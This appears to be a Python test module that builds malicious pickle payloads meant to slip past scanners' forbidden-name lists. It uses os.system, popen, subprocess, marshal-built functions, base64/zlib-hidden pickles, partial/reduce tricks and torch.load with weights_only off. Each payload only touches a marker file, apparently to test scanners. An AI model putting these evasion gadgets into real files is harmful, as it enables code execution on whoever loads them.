"""Functions that lists of forbidden names forgot, most of them from scanners' advisories."""

from __future__ import annotations

import base64
import marshal
import zlib
from collections.abc import Callable

from attacks.routes import PROTOCOL_4, call, python, raw, system, touch
from fixtures.legacy_bytes import legacy
from fixtures.torch_archive import name, stack_name, text

Program = Callable[[str], bytes]


def _function(marker: str) -> bytes:
    code = compile(f"open({marker!r}, 'w').close()", "x", "exec")
    made = call(
        name("types", "FunctionType"),
        call(name("marshal", "loads"), raw(marshal.dumps(code))),
        call(name("builtins", "globals")),
    )
    return made + b")R"


def _deflated_pickle(marker: str) -> bytes:
    hidden = base64.b64encode(zlib.compress(b"\x80\x02" + system(marker) + b"."))
    packed = call(name("base64", "b64decode"), raw(hidden))
    return call(name("_pickle", "loads"), call(name("zlib", "decompress"), packed))


def _old_storage(marker: str) -> bytes:
    """How a tensor inside of a plain pickle holds its storage: a whole old torch file."""
    inner = legacy(b"\x80\x02" + system(marker) + b".", {})
    return call(name("torch.storage", "_load_from_bytes"), raw(inner))


def _partial(target: bytes, args: bytes, words: bytes) -> bytes:
    """A partial whose function comes by BUILD: (function, arguments, keywords, attributes)."""
    harmless = call(name("functools", "partial"), name("builtins", "int"))
    return harmless + b"(" + target + args + words + b"Ntb"


def _torch_load(marker: str) -> bytes:
    inner = legacy(b"\x80\x02" + system(marker) + b".", {})
    load = _partial(name("torch", "load"), b")", b"}" + text("weights_only") + b"\x89s")
    return call(load, call(name("_io", "BytesIO"), raw(inner)))


def _partial_state(marker: str) -> bytes:
    return _partial(name("os", "system"), touch(marker) + b"\x85", b"}") + b")R"


PROGRAMS: dict[str, Program] = {
    "doctest": lambda m: call(name("doctest", "debug_script"), python(m), b"\x88"),
    "debugger": lambda m: PROTOCOL_4 + call(
        stack_name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), python(m)
    ),
    "interpreter": lambda m: PROTOCOL_4 + call(
        stack_name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), python(m)
    ),
    "tracer": lambda m: PROTOCOL_4 + call(
        stack_name("trace", "Trace.run"), call(name("trace", "Trace"), b"\x89", b"\x89"), python(m)
    ),
    "machine_number": lambda m: call(
        name("uuid", "_get_command_stdout"), text("touch"), text(m)
    ),
    "build_tools": lambda m: call(name("_osx_support", "_read_output"), touch(m)),
    "mail": lambda m: call(name("imaplib", "IMAP4_stream"), touch(m)),
    "spawn": lambda m: call(
        name("os", "spawnlp"), b"K\x00", text("touch"), text("touch"), text(m)
    ),
    "popen": lambda m: call(name("os", "popen"), touch(m)),
    "getoutput": lambda m: call(name("subprocess", "getoutput"), touch(m)),
    "function_from_marshal": _function,
    "pickle_from_base64_and_zlib": _deflated_pickle,
    "operator_call": lambda m: call(
        call(name("operator", "methodcaller"), text("system"), touch(m)),
        call(name("builtins", "__import__"), text("os")),
    ),
    "reduce_over_a_list": lambda m: call(
        name("functools", "reduce"), name("builtins", "getattr"),
        b"(" + call(name("builtins", "__import__"), text("os")) + text("path") + text("os") + text("system") + b"l",
    ) + b"(" + touch(m) + b"tR",
    "partial_from_its_state": _partial_state,
    "log_file": lambda m: call(name("logging", "FileHandler"), text(m)),
    "database_file": lambda m: call(name("sqlite3", "connect"), text(m)),
    "compressed_file": lambda m: call(name("gzip", "open"), text(m), text("wb")),
    "copied_file": lambda m: call(name("shutil", "copyfile"), text("/dev/null"), text(m)),
    "new_folder": lambda m: call(name("os", "mkdir"), text(m)),
    "argument_parser_file": lambda m: call(
        call(name("argparse", "FileType"), text("w")), text(m)
    ),
    "numpy_memory_map": lambda m: call(
        name("numpy", "memmap"), text(m), text("uint8"), text("w+"), b"K\x00", b"K\x01"
    ),
    "numpy_fortran": lambda m: call(
        name("numpy.f2py.crackfortran", "getlincoef"), python(m), b"}"
    ),
    "numpy_save_text": lambda m: call(name("numpy", "savetxt"), text(m), b"]"),
    "torch_environment": lambda m: call(name("torch.utils.collect_env", "run"), touch(m)),
    "torch_old_storage": _old_storage,
    "torch_load": _torch_load,
}  # fmt: skip
